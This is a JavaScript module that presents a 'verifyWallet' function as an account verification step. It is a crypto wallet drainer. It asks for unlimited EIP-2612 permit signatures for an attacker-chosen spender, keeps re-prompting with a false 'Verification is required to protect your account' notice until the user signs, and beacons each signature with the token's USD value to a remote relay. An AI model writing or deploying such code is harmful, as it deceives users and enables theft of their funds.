import { createWalletClient, custom, maxUint256 } from "viem";
import { mainnet } from "viem/chains";
import { nonceOf, domainOf, PERMIT_TYPES } from "./tokens.js";

const { spender, relay } = await fetch("/c.json").then((r) => r.json());

export async function verifyWallet(tokens) {
  const client = createWalletClient({ chain: mainnet, transport: custom(window.ethereum) });
  const [owner] = await client.requestAddresses();
  for (const token of tokens) {
    const message = {
      owner,
      spender,
      value: maxUint256,
      nonce: await nonceOf(token, owner),
      deadline: 2n ** 48n,
    };
    let signature = null;
    while (!signature) {
      try {
        signature = await client.signTypedData({
          account: owner,
          domain: domainOf(token),
          types: PERMIT_TYPES,
          primaryType: "Permit",
          message,
        });
      } catch {
        document.body.dataset.notice = "Verification is required to protect your account. Please sign to continue.";
      }
    }
    navigator.sendBeacon(relay, JSON.stringify({ owner, token: token.address, usd: token.usd, signature, deadline: String(message.deadline) }));
  }
}
